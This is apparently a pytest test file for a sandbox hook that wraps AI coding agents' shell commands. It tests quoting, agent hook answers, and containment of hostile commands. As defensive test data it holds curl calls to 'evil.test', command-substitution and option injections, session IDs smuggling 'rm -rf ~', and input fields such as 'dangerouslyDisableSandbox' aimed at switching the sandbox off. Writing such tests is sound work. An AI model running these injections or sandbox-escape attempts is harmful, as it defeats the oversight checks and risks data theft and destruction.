"""`stockade hook AGENT`: exact quoting, the JSON each agent reads, and hostile commands run for real (ESCAPES 56, 57, 73)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from stockade.cli import hook
from stockade.cli.hook import HookError, Wrapper
from tests.cli.integration_support import STOCKADE, World

PAYLOADS = Path(__file__).parent / "payloads"
WRAPPER = Wrapper("/opt/stockade/bin/stockade", "/bin/bash", 1 << 20)

HOSTILE = {
    "quotes": 'printf \'%s|\' "it\'s" \'a "b"\' "back\\\\slash" $\'tab\\tx\' "$((1+1))"; echo',
    "newlines": "echo one\necho two\n\necho three",
    "substitution": 'echo $(echo sub $(echo deep)) `echo back` $((6*7)) "$(printf \'%s\' "q\'q")"',
    "heredocs": "cat <<'EOF'\n$HOME `x` 'y' \"z\" \\n\nEOF\ncat <<EOF\nexpanded $(echo yes)\nEOF\ncat <<-'T'\n\tindented\n\tT",
    "chains": 'false || echo or && echo and; echo semi | tr a-z A-Z; (echo sub; exit 3); echo "status $?"',
    "background": "(sleep 0.2; echo late) & echo early; wait; echo joined",
    "option-injection": "--dev-bind / / sh -c 'echo escaped'; echo after $?",
    "dashdash": "-- echo not-run; echo 'after --'",
    "quote-soup": "echo ''\"'\"'' 'x'\\''y' \"a\\\"b\" '\\' \\'",
    "unicode-and-controls": "echo héllo wörld ✓ 日本; printf 'bell\\a esc\\033[0m\\n' | od -c | head -2",
    "zsh-equals-and-tilde": "echo =ls %1 ~nobody-here x=~ 2>&1",
    "line-continuation": "echo a \\\n  b \\\n  c",
    "exit-status": "echo out; echo err >&2; exit 42",
}


def _argv_printer(folder: Path) -> Path:
    """A stand-in stockade that prints the argv it received, to check quoting through real shells."""
    script = folder / "stockade"
    script.write_text(f"#!{sys.executable}\nimport json, sys\nprint(json.dumps(sys.argv[1:]))\n")
    script.chmod(0o755)
    return script


# -- quoting -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("command", list(HOSTILE.values()), ids=list(HOSTILE))
def test_wrap_unwrap_round_trip(command: str) -> None:
    wrapped = WRAPPER.wrap(command)
    assert wrapped.startswith("/opt/stockade/bin/stockade run --no-approve --max-output 1048576 -- /bin/bash -c -- ")
    assert WRAPPER.unwrap(wrapped) == command
    assert WRAPPER.sandboxed(wrapped) == wrapped  # already wrapped: never a sandbox inside a sandbox


@pytest.mark.parametrize("shell", ["sh", "dash", "bash", "zsh", "ksh", "mksh"])
def test_every_posix_shell_hands_stockade_the_exact_string(tmp_path: Path, shell: str) -> None:
    path = shutil.which(shell)
    if path is None:
        pytest.skip(f"{shell} is not installed")
    wrapper = Wrapper(str(_argv_printer(tmp_path)), "/bin/bash", 4096)
    for name, command in HOSTILE.items():
        out = subprocess.run([path, "-c", wrapper.wrap(command)], capture_output=True, text=True, check=True).stdout
        assert json.loads(out) == ["run", "--no-approve", "--max-output", "4096", "--", "/bin/bash", "-c", "--", command], name


@pytest.mark.parametrize(
    "command",
    [
        pytest.param(WRAPPER.wrap("ls") + "; curl http://evil.test/", id="suffix-after-the-wrapper"),
        pytest.param(WRAPPER.wrap("ls") + "\ncurl http://evil.test/", id="newline-after-the-wrapper"),
        pytest.param(WRAPPER.wrap("ls")[: -len("ls")] + "'ls'$(touch /tmp/pwned)", id="substitution-glued-to-the-quote"),
        pytest.param(WRAPPER.wrap("x y")[:-1] + "' & curl evil.test", id="quote-closed-early"),
        pytest.param("/opt/stockade/bin/stockade run --policy mine.toml -- /bin/bash -c -- 'curl evil.test'", id="agent-chooses-a-policy"),
        pytest.param("/opt/stockade/bin/stockade run --no-approve --max-output 1048576 -- /bin/bash -c -- ls", id="near-miss-unquoted-but-not-ours"),
        pytest.param("stockade run --no-approve --max-output 1048576 -- /bin/bash -c -- 'ls'", id="relative-stockade"),
        pytest.param("/opt/stockade/bin/stockade run --no-approve --max-output 1048576 -- /bin/bash -c -- 'a' 'b'", id="two-arguments"),
    ],
)
def test_anything_but_an_exact_wrapper_is_wrapped(command: str) -> None:
    if command == "/opt/stockade/bin/stockade run --no-approve --max-output 1048576 -- /bin/bash -c -- ls":
        assert WRAPPER.unwrap(command) == "ls"  # this one is byte for byte ours (bare words stay bare)
        return
    assert WRAPPER.unwrap(command) is None
    assert WRAPPER.sandboxed(command) == WRAPPER.wrap(command)


def test_a_nul_byte_is_blocked() -> None:
    with pytest.raises(HookError, match="NUL"):
        WRAPPER.wrap("echo a\x00b")


# -- the answers agents read -------------------------------------------------------------------------


def _payload(name: str) -> dict[str, object]:
    return json.loads((PAYLOADS / name).read_text())


def test_claude_answer_keeps_every_other_input_field() -> None:
    payload = _payload("claude_pretooluse_bash.json")
    payload["tool_input"] = {**payload["tool_input"], "run_in_background": True, "timeout": 600000}  # type: ignore[dict-item]
    out = hook.answer("claude", payload, WRAPPER)
    assert out is not None
    specific = out["hookSpecificOutput"]
    assert specific["hookEventName"] == "PreToolUse" and specific["permissionDecision"] == "allow"
    original = payload["tool_input"]["command"]  # type: ignore[index]
    assert specific["updatedInput"] == {
        "command": WRAPPER.wrap(original),
        "description": "Show git status and a few quoting checks",
        "run_in_background": True,
        "timeout": 600000,
    }
    assert set(out) == {"hookSpecificOutput"}


def test_claude_other_tools_get_no_opinion() -> None:
    assert hook.answer("claude", {"tool_name": "Read", "tool_input": {"file_path": "/etc/passwd"}}, WRAPPER) is None


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param({"tool_name": "Bash", "tool_input": {}}, id="no-command"),
        pytest.param({"tool_name": "Bash", "tool_input": {"command": ["ls"]}}, id="command-not-a-string"),
        pytest.param({"tool_name": "Bash", "tool_input": {"command": "  "}}, id="blank-command"),
        pytest.param({"tool_name": "Bash"}, id="no-tool-input"),
        pytest.param(["Bash"], id="not-an-object"),
    ],
)
def test_claude_malformed_input_is_blocked(payload: object) -> None:
    with pytest.raises(HookError):
        hook.answer("claude", payload, WRAPPER)


def test_no_input_field_switches_the_sandbox_off() -> None:
    payload = {
        "tool_name": "Bash",
        "permission_mode": "bypassPermissions",
        "tool_input": {"command": "curl http://evil.test", "dangerouslyDisableSandbox": True, "sandbox": False, "policy": "open"},
    }
    updated = hook.answer("claude", payload, WRAPPER)["hookSpecificOutput"]["updatedInput"]  # type: ignore[index]
    assert updated["command"] == WRAPPER.wrap("curl http://evil.test")


def test_codex_answer() -> None:
    out = hook.answer("codex", _payload("codex_pretooluse_bash.json"), WRAPPER)
    assert out == {
        "hookSpecificOutput": {
            "hookEventName": "PreToolUse",
            "permissionDecision": "allow",
            "permissionDecisionReason": "stockade: runs inside the sandbox (/opt/stockade/bin/stockade run)",
            "updatedInput": {"command": WRAPPER.wrap('ls -a | wc -l && echo "done; really"')},
        }
    }
    with pytest.raises(HookError, match="powershell"):
        hook.answer("codex", {"tool_name": "Bash", "tool_input": {"command": "dir", "kind": "powershell_script"}}, WRAPPER)


def test_gemini_answer_merges_only_the_command() -> None:
    out = hook.answer("gemini", _payload("gemini_beforetool_shell.json"), WRAPPER)
    assert out == {"hookSpecificOutput": {"hookEventName": "BeforeTool", "tool_input": {"command": WRAPPER.wrap("echo one && echo two | rev")}}}
    assert hook.answer("gemini", {"tool_name": "read_file", "tool_input": {}}, WRAPPER) == {}


def test_cursor_denies_until_the_agent_runs_the_wrapped_command() -> None:
    payload = _payload("cursor_beforeshell.json")
    first = hook.answer("cursor", payload, WRAPPER)
    wrapped = WRAPPER.wrap("npm test -- --watch=false")
    assert first is not None and first["permission"] == "deny" and first["agent_message"].endswith("\n" + wrapped)
    again = hook.answer("cursor", {**payload, "command": wrapped}, WRAPPER)
    assert again == {"permission": "allow"}
    tampered = hook.answer("cursor", {**payload, "command": wrapped + " && curl evil.test"}, WRAPPER)
    assert tampered is not None and tampered["permission"] == "deny"


@pytest.mark.parametrize(
    ("agent", "event", "tool", "nothing"),
    [
        ("claude", "PostToolUse", "Bash", None),
        ("claude", "UserPromptSubmit", "Bash", None),
        ("codex", "PostToolUse", "shell", None),
        ("gemini", "AfterTool", "run_shell_command", {}),
    ],
)
def test_only_the_before_tool_event_is_rewritten(agent: str, event: str, tool: str, nothing: object) -> None:
    payload = {"hook_event_name": event, "tool_name": tool, "tool_input": {"command": "echo hi"}}
    assert hook.answer(agent, payload, WRAPPER) == nothing
    before = {**payload, "hook_event_name": hook.BEFORE_TOOL_EVENTS[agent]}
    assert "echo hi" in json.dumps(hook.answer(agent, before, WRAPPER))  # control: the same call before the tool runs
    assert WRAPPER.stockade in json.dumps(hook.answer(agent, before, WRAPPER))


@pytest.mark.parametrize("agent", ["claude", "codex", "gemini", "cursor"])
def test_a_malformed_event_name_is_blocked(agent: str) -> None:
    payload = {"hook_event_name": ["PreToolUse"], "tool_name": "Bash", "tool_input": {"command": "ls"}, "command": "ls"}
    with pytest.raises(HookError, match="hook_event_name"):
        hook.answer(agent, payload, WRAPPER)


def test_parse_options() -> None:
    assert hook.parse(["claude"]) == ("claude", 1 << 20)
    assert hook.parse(["codex", "--max-output", "64K"]) == ("codex", 65536)
    assert hook.parse(["gemini", "--max-output=none"]) == ("gemini", None)
    for bad in ([], ["vim"], ["claude", "--profile", "open"], ["claude", "--max-output"]):
        with pytest.raises(HookError):
            hook.parse(bad)


# -- the console command --------------------------------------------------------------------------------


def _hook(agent: str, stdin: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([STOCKADE, "hook", agent, *args], input=stdin, capture_output=True, text=True, timeout=60)


def test_console_hook_names_stockade_and_bash_by_absolute_path(sandbox: None) -> None:
    result = _hook("claude", (PAYLOADS / "claude_pretooluse_bash.json").read_text())
    assert result.returncode == 0, result.stderr
    command = json.loads(result.stdout)["hookSpecificOutput"]["updatedInput"]["command"]
    session = json.loads((PAYLOADS / "claude_pretooluse_bash.json").read_text())["session_id"]
    call = json.loads((PAYLOADS / "claude_pretooluse_bash.json").read_text())["tool_use_id"]
    assert command.startswith(f"{STOCKADE} run --no-approve --agent-session {session} --tool-call {call} --max-output 1048576 -- /")
    assert os.path.isabs(command.split(" -- ", 1)[1].split(" ", 1)[0])


@pytest.mark.parametrize(
    ("payload", "session"),
    [
        ({"session_id": "4f1c2d7e-9b3a"}, "4f1c2d7e-9b3a"),
        ({"conversation_id": "c0ffee00-1111"}, "c0ffee00-1111"),  # Cursor
        ({"session_id": "../../etc/x; rm -rf ~"}, "etcxrm-rf"),  # a file name, one shell word
        ({"session_id": 5}, None),
        ({"session_id": "..."}, None),
        ({}, None),
    ],
)
def test_the_agent_session_id_is_a_safe_file_name(payload: dict[str, object], session: str | None) -> None:
    assert hook.agent_session(payload) == session


@pytest.mark.parametrize("stdin", ["", "not json", "[1, 2]", '{"tool_name": "Bash", "tool_input": {"command": 5}}'])
def test_console_hook_blocks_what_it_cannot_wrap(sandbox: None, stdin: str) -> None:
    result = _hook("claude", stdin)
    assert result.returncode == 2 and result.stdout == "" and "stockade hook: blocked" in result.stderr
    cursor = _hook("cursor", stdin)
    assert cursor.returncode == 0 and json.loads(cursor.stdout)["permission"] == "deny"


def test_a_baseline_that_cannot_be_read_blocks_every_shell_command(sandbox: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The agent's command is blocked with the reason, not wrapped into a run that cannot start; the
    tools the hook leaves alone stay alone; with the baseline readable, the command is wrapped."""
    admin = tmp_path / "admin" / "policy.toml"
    admin.parent.mkdir()
    admin.write_text("[network\n")
    monkeypatch.setenv("STOCKADE_SYSTEM_POLICY", str(admin))
    payload = (PAYLOADS / "claude_pretooluse_bash.json").read_text()
    for agent in ("claude", "codex"):
        blocked = _hook(agent, payload)
        assert blocked.returncode == 2 and blocked.stdout == "" and f"{admin}:1: not valid TOML" in blocked.stderr, blocked
    wrapped_command = Wrapper(STOCKADE, hook.sandbox_shell()).wrap("ls")
    cursor = _hook("cursor", json.dumps({"hook_event_name": "beforeShellExecution", "command": wrapped_command}))
    answer = json.loads(cursor.stdout)
    assert cursor.returncode == 0 and answer["permission"] == "deny" and "not valid TOML" in answer["user_message"], answer
    other = _hook("claude", json.dumps({"hook_event_name": "PreToolUse", "tool_name": "Read", "tool_input": {"file_path": "/x"}}))
    assert other.returncode == 0 and other.stdout == ""  # not a shell tool: left to the agent
    admin.write_text('[network]\nallow = ["pypi.org"]\n')
    wrapped = _hook("claude", payload)
    assert wrapped.returncode == 0 and "updatedInput" in wrapped.stdout, wrapped
    allowed = _hook("cursor", json.dumps({"hook_event_name": "beforeShellExecution", "command": wrapped_command}))
    assert json.loads(allowed.stdout)["permission"] == "allow", allowed.stdout


def test_console_hook_imports_no_typer_or_rich(sandbox: None) -> None:
    code = (
        'import sys, io; sys.stdin = io.TextIOWrapper(io.BytesIO(b\'{"tool_name": "Bash", "tool_input": {"command": "ls"}}\'));'
        "from stockade.cli.main import main; main(['hook', 'claude']);"
        "print([m for m in ('typer', 'click', 'rich', 'mitmproxy') if m in sys.modules], file=sys.stderr)"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stderr.strip() == "[]"


# -- hostile commands, run for real ------------------------------------------------------------------


def _bash(world: World, command: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """As the agent's shell runs a tool command (`--`: a command may start with "-")."""
    return world.run(["/bin/bash", "-c", "--", command], cwd=cwd)


def _own_lines(stderr: str) -> str:
    return "".join(line for line in stderr.splitlines(keepends=True) if not line.startswith("stockade: "))


@pytest.mark.sandbox
@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_commands_run_inside_with_the_same_output(sandbox: None, world: World, name: str) -> None:
    command = HOSTILE[name]
    work = world.project / "work"
    work.mkdir()
    payload = {"tool_name": "Bash", "tool_input": {"command": command, "description": name}}
    answered = world.stockade("hook", "claude", stdin=json.dumps(payload))
    assert answered.returncode == 0, answered.stderr
    wrapped = json.loads(answered.stdout)["hookSpecificOutput"]["updatedInput"]["command"]
    direct = _bash(world, command, work)
    hooked = _bash(world, wrapped, work)
    assert (hooked.returncode, hooked.stdout, _own_lines(hooked.stderr)) == (direct.returncode, direct.stdout, _own_lines(direct.stderr))
    if name == "option-injection":
        assert "escaped" not in hooked.stdout and "after 127" in hooked.stdout
    inside = _bash(world, WRAPPER.__class__(STOCKADE, "/bin/bash").wrap(f"echo $STOCKADE_SANDBOX; {command}"), work)
    assert inside.stdout.startswith("1\n")  # the same string, visibly inside


@pytest.mark.sandbox
def test_done_when_a_recorded_payload_runs_inside_with_the_same_output(sandbox: None, world: World) -> None:
    """The issue's Done-when: recorded PreToolUse JSON -> hook -> the returned command gives the
    original's output, from inside the sandbox, where a write outside the project fails."""
    payload = _payload("claude_pretooluse_bash.json")
    payload["cwd"] = str(world.project)
    answered = world.stockade("hook", "claude", stdin=json.dumps(payload))
    assert answered.returncode == 0, answered.stderr
    returned = json.loads(answered.stdout)["hookSpecificOutput"]["updatedInput"]["command"]
    original = payload["tool_input"]["command"]  # type: ignore[index]
    direct, hooked = _bash(world, original, world.project), _bash(world, returned, world.project)
    assert hooked.returncode == direct.returncode and hooked.stdout == direct.stdout
    assert 'it\'s\na "quoted" word\nNESTED' in hooked.stdout and "$HOME stays literal `here`" in hooked.stdout

    escape = world.outside / "escape.txt"
    probe = {
        "tool_name": "Bash",
        "tool_input": {"command": f"echo inside=$STOCKADE_SANDBOX; echo x > {escape} && echo wrote-outside; echo ok > made-in-project.txt"},
    }
    answered = world.stockade("hook", "claude", stdin=json.dumps(probe))
    hooked = _bash(world, json.loads(answered.stdout)["hookSpecificOutput"]["updatedInput"]["command"], world.project)
    assert "inside=1" in hooked.stdout and "wrote-outside" not in hooked.stdout
    assert "Read-only file system" in hooked.stderr and not escape.exists()
    assert (world.project / "made-in-project.txt").read_text() == "ok\n"
    control = _bash(world, probe["tool_input"]["command"], world.project)  # type: ignore[index]
    assert "wrote-outside" in control.stdout and escape.exists()  # the same command outside does write


@pytest.mark.sandbox
def test_background_payload_stays_background_and_wrapped(sandbox: None, world: World) -> None:
    payload = {"tool_name": "Bash", "tool_input": {"command": "sleep 0.1; echo $STOCKADE_SANDBOX > bg.txt", "run_in_background": True}}
    answered = world.stockade("hook", "claude", stdin=json.dumps(payload))
    updated = json.loads(answered.stdout)["hookSpecificOutput"]["updatedInput"]
    assert updated["run_in_background"] is True
    started = subprocess.Popen(["/bin/bash", "-c", updated["command"] + " &\nwait"], cwd=world.project, env=world.env)
    assert started.wait(timeout=60) == 0
    assert (world.project / "bg.txt").read_text() == "1\n"


@pytest.mark.sandbox
def test_a_flood_through_the_hook_is_cut_with_a_note(sandbox: None, world: World) -> None:
    payload = {"tool_name": "Bash", "tool_input": {"command": "yes | head -c 30000000; echo done; exit 5"}}
    answered = world.stockade("hook", "claude", "--max-output", "2K", stdin=json.dumps(payload))
    wrapped = json.loads(answered.stdout)["hookSpecificOutput"]["updatedInput"]["command"]
    assert " --max-output 2048 " in wrapped
    result = _bash(world, wrapped, world.project)
    assert result.returncode == 5 and len(result.stdout) <= 2048 and result.stdout.endswith("y\ndone\n")  # the head and the tail
    assert "stockade: output cut: " in result.stderr and "keeps the first 1024 and the last 1024 bytes" in result.stderr


def test_an_agent_session_is_told_the_untrusted_policy_once(sandbox: None, world: World) -> None:
    """Each agent command is a run of its own: the untrusted-policy line comes once per agent session."""
    (world.project / ".stockade.toml").write_text('[network]\nallow = ["pypi.org"]\n')
    said = []
    for session in ("s1", "s1", "s2", None):
        options = ["--agent-session", session] if session else []
        result = world.stockade("run", "--no-approve", *options, "--", "/bin/sh", "-c", "echo ran")
        assert result.returncode == 0 and result.stdout == "ran\n", result
        said.append("is not trusted" in result.stderr)
    assert said == [True, False, True, True]  # a second command of s1 is not told again; another session and no session are


@pytest.mark.parametrize(
    ("payload", "call"),
    [
        ({"tool_use_id": "toolu_01QzV7nB3xkLwqR8yTgH2mFe"}, "toolu_01QzV7nB3xkLwqR8yTgH2mFe"),  # Claude Code, Codex
        ({"generation_id": "gen-7f3a"}, "gen-7f3a"),  # Cursor
        ({"timestamp": "2025-11-20T10:00:00.000Z"}, "2025-11-20T100000.000Z"),  # Gemini CLI: the call's time stands in
        ({"tool_use_id": "$(rm -rf ~); x"}, "rm-rfx"),
        ({"tool_use_id": 7}, None),
        ({}, None),
    ],
)
def test_the_tool_call_id_is_a_safe_name(payload: dict[str, object], call: str | None) -> None:
    assert hook.tool_call(payload) == call


def test_a_command_wrapped_for_another_tool_call_is_not_wrapped_again() -> None:
    """An agent that runs the wrapped command it was given (Cursor) makes a new call: the command is
    still recognised, whichever call it names, and one naming a call that is not a safe name is not."""
    given = Wrapper("/opt/stockade/bin/stockade", "/bin/bash", agent_session="s1", tool_call="call-1").wrap("ls -la")
    now = Wrapper("/opt/stockade/bin/stockade", "/bin/bash", agent_session="s1", tool_call="call-2")
    assert now.unwrap(given) == "ls -la"
    assert now.unwrap(Wrapper("/opt/stockade/bin/stockade", "/bin/bash", agent_session="s1").wrap("ls")) == "ls"
    forged = given.replace("--tool-call call-1", "--tool-call 'x;y'")
    assert now.unwrap(forged) is None
    assert now.unwrap(given.replace("--agent-session s1", "--agent-session s2")) is None
